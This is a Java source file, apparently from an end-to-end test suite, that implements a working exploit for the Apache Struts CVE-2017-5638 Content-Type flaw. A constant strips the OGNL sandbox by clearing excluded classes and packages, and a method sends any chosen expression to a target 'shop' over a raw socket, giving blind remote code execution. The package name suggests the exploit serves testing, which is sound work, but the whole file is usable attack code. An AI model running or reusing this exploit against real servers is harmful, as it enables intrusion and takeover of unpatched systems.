package dev.inlay.e2e.attack;

import dev.inlay.failure.PermanentFailure;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/// CVE-2017-5638: Struts evaluates an expression in the `Content-Type` of a request while it
/// reports that it could not parse the request. It is blind: what the expression did is not in the
/// answer.
///
/// It speaks over a plain socket since no HTTP client would send such a header.
public record StrutsHole(InetSocketAddress shop) {
    private static final Duration PATIENCE = Duration.ofSeconds(15);

    /// Ends the sandbox that Struts puts around expressions (it forbids most classes).
    private static final String FREEDOM =
            "(#_='multipart/form-data')"
                    + ".(#all=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"
                    + ".(#_memberAccess?(#_memberAccess=#all):("
                    + "(#container=#context['com.opensymphony.xwork2.ActionContext.container'])"
                    + ".(#ognl=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))"
                    + ".(#ognl.getExcludedPackageNames().clear())"
                    + ".(#ognl.getExcludedClasses().clear())"
                    + ".(#context.setMemberAccess(#all)))).";

    /// Has the shop evaluate an expression.
    ///
    /// @return the status line of its answer
    public String evaluate(String expression) {
        return evaluate(expression, new byte[0]);
    }

    /// As above, with a body that the expression may read.
    public String evaluate(String expression, byte[] body) {
        String head =
                """
                POST /products.action HTTP/1.1\r
                Host: shop\r
                Connection: close\r
                Content-Length: %d\r
                Content-Type: %%{%s}\r
                \r
                """
                        .formatted(body.length, FREEDOM + expression);
        try (var socket = new Socket()) {
            socket.connect(shop, (int) PATIENCE.toMillis());
            socket.setSoTimeout((int) PATIENCE.toMillis());
            var request = new ByteArrayOutputStream();
            request.writeBytes(head.getBytes(StandardCharsets.US_ASCII));
            request.writeBytes(body);
            socket.getOutputStream().write(request.toByteArray());
            String answer =
                    new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            return answer.lines().findFirst().orElse("no answer");
        } catch (IOException e) {
            throw new PermanentFailure(
                    "shop-unreachable", "tried to attack " + shop + ": " + e.getMessage(), e);
        }
    }
}
